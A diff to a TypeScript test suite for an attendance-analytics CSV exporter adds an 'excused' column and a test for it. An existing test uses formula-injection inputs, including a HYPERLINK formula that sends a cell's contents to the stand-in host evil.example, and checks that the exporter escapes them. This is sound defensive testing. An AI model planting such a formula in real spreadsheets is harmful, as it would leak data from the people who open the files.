@@ -42,6 +42,7 @@ const figures: CompanyAttendanceAnalytics = {
       sessions: 1,
       attended: 3,
       held: 3,
+      excused: 0,
       rate: 1,
     },
     {
@@ -50,6 +51,7 @@ const figures: CompanyAttendanceAnalytics = {
       sessions: 1,
       attended: 2,
       held: 3,
+      excused: 0,
       rate: 0.6667,
     },
   ],
@@ -196,6 +198,7 @@ describe('buildAttendanceCsv', () => {
     learners: 'Learners',
     held: 'Meetings held',
     attended: 'Attended',
+    excused: 'Excused',
     expected: 'Expected',
     rate: 'Rate (%)',
     sessionRow: 'Session',
@@ -208,13 +211,24 @@ describe('buildAttendanceCsv', () => {
     expect(text.startsWith(UTF8_BOM)).toBe(true);
     const lines = text.slice(1).split('\r\n');
     expect(lines).toEqual([
-      'Type,Name,E-mail,Course,Start date,Learners,Meetings held,Attended,Expected,Rate (%)',
-      'Session,SQL for analysts,,SQL for analysts,2026-10-05,2,3,5,6,83',
-      'Learner,عائشة السليطي,aisha@qad.test,,,,3,3,3,100',
-      'Learner,"Khalid ""KM"" Al-Marri, Jr.",khalid@qad.test,,,,3,2,3,67',
+      'Type,Name,E-mail,Course,Start date,Learners,Meetings held,Attended,Excused,Expected,Rate (%)',
+      'Session,SQL for analysts,,SQL for analysts,2026-10-05,2,3,5,0,6,83',
+      'Learner,عائشة السليطي,aisha@qad.test,,,,3,3,0,3,100',
+      'Learner,"Khalid ""KM"" Al-Marri, Jr.",khalid@qad.test,,,,3,2,0,3,67',
       '',
     ]);
     expect(new TextEncoder().encode(text).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
+  });
+
+  it('counts meetings the educator excused apart, out of what was expected', () => {
+    const data: CompanyAttendanceAnalytics = {
+      ...figures,
+      sessions: [{ ...figures.sessions[0]!, attended: 4, excused: 1, expected: 5, rate: 0.8 }],
+      learners: [{ ...figures.learners[1]!, attended: 2, held: 3, excused: 1, rate: 1 }],
+    };
+    const lines = buildAttendanceCsv(data, labels).text.slice(1).split('\r\n');
+    expect(lines[1]).toBe('Session,SQL for analysts,,SQL for analysts,2026-10-05,2,3,4,1,5,80');
+    expect(lines[2]).toBe('Learner,"Khalid ""KM"" Al-Marri, Jr.",khalid@qad.test,,,,3,2,1,2,100');
   });
 
   it('neutralises a learner name and a course title that a spreadsheet would run as formulas (OWASP CSV injection)', () => {
@@ -225,9 +239,9 @@ describe('buildAttendanceCsv', () => {
       learners: [{ ...figures.learners[0], learner: { id: 23, name: evil, pictureUrl: null }, email: '@evil.example' }],
     };
     const lines = buildAttendanceCsv(data, labels).text.slice(1).split('\r\n');
-    expect(lines[1]).toBe(`Session,"'+SUM(1,2)",,"'+SUM(1,2)",2026-10-05,2,3,5,6,83`);
+    expect(lines[1]).toBe(`Session,"'+SUM(1,2)",,"'+SUM(1,2)",2026-10-05,2,3,5,0,6,83`);
     expect(lines[2]).toBe(
-      `Learner,"'=HYPERLINK(""https://evil.example/?d=""&C3,""Open"")",'@evil.example,,,,3,3,3,100`,
+      `Learner,"'=HYPERLINK(""https://evil.example/?d=""&C3,""Open"")",'@evil.example,,,,3,3,0,3,100`,
     );
     // No cell of the file starts with a formula character.
     for (const line of lines)
